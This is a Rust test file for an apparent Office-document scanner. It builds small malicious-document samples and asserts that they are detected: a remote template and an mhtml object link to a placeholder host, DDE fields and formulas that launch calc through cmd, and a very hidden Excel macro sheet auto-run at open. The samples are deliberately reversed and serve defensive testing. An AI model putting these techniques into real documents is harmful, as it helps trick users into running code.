use std::io::Write as _;

use super::*;
use crate::readers::ole::testing::{batter, run};

pub(crate) fn zip_of(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in parts {
        writer
            .start_file(*name, zip::write::SimpleFileOptions::default())
            .unwrap();
        writer.write_all(bytes).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn relation(kind: &str, target: &str) -> Vec<u8> {
    format!(
        "<Relationships><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/\
         officeDocument/2006/relationships/{kind}\" Target=\"{target}\" \
         TargetMode=\"External\"/></Relationships>"
    )
    .into_bytes()
}

#[test]
fn text_is_put_together_from_its_runs() {
    let body =
        b"<w:document><w:p><w:r><w:t>Bon</w:t></w:r><w:r><w:t>jour</w:t></w:r></w:p></w:document>";
    let outcome = run(
        read,
        &zip_of(&[
            ("[Content_Types].xml", b"<Types/>"),
            ("word/document.xml", body),
        ]),
    );
    assert!(outcome.text().contains("Bonjour"));
    assert!(outcome.signals.is_empty() && outcome.gaps.is_empty() && outcome.children.is_empty());
}

#[test]
fn a_remote_template_is_told_and_a_local_one_is_not() {
    let part = "word/_rels/settings.xml.rels";
    let remote = relation("attachedTemplate", "https://a.invalid/x.dotm");
    let outcome = run(read, &zip_of(&[(part, &remote)]));
    assert!(outcome.has("template-remote") && outcome.text().contains("a.invalid"));
    let local = relation("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm");
    assert!(run(read, &zip_of(&[(part, &local)])).signals.is_empty());
    let trap = relation(
        "oleObject",
        "mhtml:https://a.invalid/x.html!x-usc:https://a.invalid",
    );
    assert!(run(read, &zip_of(&[(part, &trap)])).weight() >= 80);
}

#[test]
fn a_field_split_over_runs_is_read_whole() {
    // Reversed: no sample stands in clear.
    let text = |word: &str| word.chars().rev().collect::<String>();
    let xml = format!(
        "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>{}</w:instrText></w:r>\
         <w:r><w:instrText>{}</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>",
        text("EDD"),
        text("\"clac\" \"exe.dmc\\:c\" OTUA")
    );
    let outcome = run(read, &zip_of(&[("word/document.xml", xml.as_bytes())]));
    assert!(outcome.has("dde-runs-program"), "{:?}", outcome.signals);
}

#[test]
fn binary_parts_become_children() {
    let parts: [(&str, &[u8]); 3] = [
        ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
        ("word/embeddings/oleObject1.bin", b"abc"),
        ("word/media/image1.png", b"\x89PNG"),
    ];
    let outcome = run(read, &zip_of(&parts));
    assert_eq!(outcome.children.len(), 3);
    assert_eq!(outcome.children[0].relation, "macro");
    assert_eq!(outcome.children[1].relation, "object");
}

#[test]
fn a_hidden_macro_sheet_that_runs_is_an_attack() {
    let formula: String = ")\"clac\"(CEXE".chars().rev().collect();
    let sheet = format!("<xm:macrosheet><row><c><f>{formula}</f></c></row></xm:macrosheet>");
    let workbook = b"<workbook><sheets><sheet name=\"M\" sheetId=\"1\" state=\"veryHidden\" r:id=\"rId1\"/>\
        </sheets><definedNames><definedName name=\"_xlnm.Auto_Open\">M!$A$1</definedName></definedNames></workbook>";
    let rels = b"<Relationships><Relationship Id=\"rId1\" Type=\"http://schemas.microsoft.com/office/2006/\
        relationships/xlMacrosheet\" Target=\"macrosheets/sheet1.xml\"/></Relationships>";
    let outcome = run(
        read,
        &zip_of(&[
            ("xl/workbook.xml", workbook),
            ("xl/_rels/workbook.xml.rels", rels),
            ("xl/macrosheets/sheet1.xml", sheet.as_bytes()),
        ]),
    );
    assert!(outcome.has("xlm-attack-chain") && outcome.has("xlm-hidden-sheet"));
    assert_eq!(outcome.facts["xlm.sheets"], serde_json::json!(["M"]));
}

#[test]
fn a_part_that_swells_is_bounded() {
    let outcome = run(
        read,
        &zip_of(&[("word/document.xml", &vec![b' '; 20 << 20])]),
    );
    assert!(!outcome.gaps.is_empty());
}

#[test]
fn flat_documents_give_their_blocks_and_formulas() {
    let formula: String = "1A!'clac c/'|dmc=".chars().rev().collect();
    let xml = format!(
        "<Workbook><Cell ss:Formula=\"{formula}\"/><w:binData w:name=\"editdata.mso\">QUJD</w:binData></Workbook>"
    );
    let outcome = run(read_flat, xml.as_bytes());
    assert!(outcome.has("dde-runs-program"), "{outcome:?}");
    assert_eq!(outcome.child("editdata.mso"), b"ABC");
}

#[test]
fn damaged_packages_never_panic() {
    let rels = relation("attachedTemplate", "https://a.invalid/x.dotm");
    batter(
        read,
        &zip_of(&[
            ("word/_rels/settings.xml.rels", &rels),
            ("xl/a.bin", b"\x9c\x01\x04abcd"),
        ]),
    );
    batter(read_flat, b"<w:wordDocument><w:binData w:name=\"editdata.mso\">QUJD</w:binData><w:p/></w:wordDocument>");
    batter(read_active_mime, b"ActiveMime");
}
